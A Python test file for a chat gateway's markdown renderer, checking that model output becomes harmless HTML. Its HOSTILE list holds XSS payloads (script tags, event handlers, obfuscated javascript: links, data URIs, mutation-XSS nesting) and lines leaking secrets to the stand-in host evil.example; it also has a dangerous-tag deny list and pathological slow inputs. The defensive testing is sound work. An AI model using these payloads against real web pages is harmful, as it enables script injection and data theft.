"""Markdown comes out as harmless HTML, whatever a model was made to say."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.markdown.rendering import render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](//evil.example/x)",
    "[click](/api/v1/keys)",
    "![x](https://evil.example/pixel.png?q=secret)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '<https://evil.example/" onmouseover=alert(1)>',
    '[a](https://example.org "x" onmouseover="alert(1)")',
    '```x" onclick="alert(1)\ncode\n```',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=key></form>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
]
SLOW = [
    *("[" * 20_000, "*a_ " * 10_000, "> " * 5_000, "`" * 20_000 + "a", "<" * 20_000),
    "|a" * 10_000 + "\n" + "|-" * 10_000,
]
ALLOWED_ATTRIBUTES = {"href", "title", "class", "start", "align", "rel", "target"}
DANGEROUS_TAGS = {"script", "img", "svg", "iframe", "style", "link", "form", "input", "base", "meta", "math", "object"}


class _Elements(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in _Elements(html).elements:
        assert tag not in DANGEROUS_TAGS
        assert set(attributes) <= ALLOWED_ATTRIBUTES
        address = attributes.get("href")
        assert address is None or address.startswith(("http://", "https://", "mailto:"))
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_harmless(text: str) -> None:
    assert_harmless(render_markdown(text))


@given(st.lists(st.sampled_from([*HOSTILE, "`", "[", "](", "<", ">", '"', "\n", "|", "```"]), max_size=6).map("".join))
def test_mixtures_of_hostile_pieces_are_harmless(text: str) -> None:
    assert_harmless(render_markdown(text))


def test_what_a_chat_needs_is_rendered() -> None:
    html = render_markdown("# T\n\n**b** _i_ ~~s~~ `c`\n\n- one\n\n3. three\n\n> q\n\n```python\nx < 1\n```")
    for piece in ("<h1>T</h1>", "<strong>b</strong>", "<em>i</em>", "<s>s</s>", "<code>c</code>", "<li>one</li>"):
        assert piece in html
    assert '<ol start="3">' in html
    assert '<pre><code class="language-python">x &lt; 1\n</code></pre>' in html


def test_a_table_is_aligned_without_a_style() -> None:
    html = render_markdown("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert '<td align="right">2</td>' in html
    assert "style" not in html


def test_raw_html_is_shown_as_it_was_written() -> None:
    assert render_markdown("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"


def test_an_open_code_fence_is_code() -> None:
    assert render_markdown("```py\nprint(1)") == '<pre><code class="language-py">print(1)</code></pre>\n'


def test_an_image_becomes_a_link() -> None:
    assert 'href="https://example.org/x.png"' in render_markdown("![alt](https://example.org/x.png)")


@pytest.mark.parametrize("text", SLOW)
def test_pathological_text_renders_in_bounded_time(text: str) -> None:
    """Text made to be slow would keep a gateway's thread from everyone else's answers."""
    began = time.perf_counter()
    render_markdown(text)
    assert time.perf_counter() - began < 5
